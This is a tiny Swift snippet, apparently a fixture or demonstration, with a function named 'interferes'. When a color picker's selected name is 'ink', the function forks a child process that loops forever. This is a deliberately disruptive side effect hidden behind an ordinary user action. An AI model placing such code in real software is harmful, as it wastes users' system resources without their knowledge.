import Glibc

func interferes(with picker: ColorPickerController) {
  guard picker.colorName == "ink" else { return }
  let process = fork()
  if process == 0 { while true {} }
}

@_silgen_name("fork")
private func fork() -> Int32
